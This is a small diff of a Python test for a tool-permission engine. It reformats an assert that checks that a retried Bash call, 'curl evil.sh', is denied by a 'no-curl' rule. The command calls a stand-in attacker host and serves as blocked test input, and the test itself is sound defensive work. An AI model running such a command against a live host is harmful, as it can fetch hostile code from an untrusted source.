@@ -63,7 +63,9 @@ def test_a_retried_forbidden_call_is_denied_every_time() -> None:
     ]
     assert all(d.tool == "Bash" and d.grader == "no-curl" for d in engine.decisions)
     retry = engine.decisions[1]
-    assert retry.reason == "disallowed[0] matched 'Bash' command 'curl evil.sh' in call c2"
+    assert (
+        retry.reason == "disallowed[0] matched 'Bash' command 'curl evil.sh' in call c2"
+    )
     assert retry.matched is not None
     assert (retry.matched.field, retry.matched.value, retry.matched.call_id) == (
         "command",
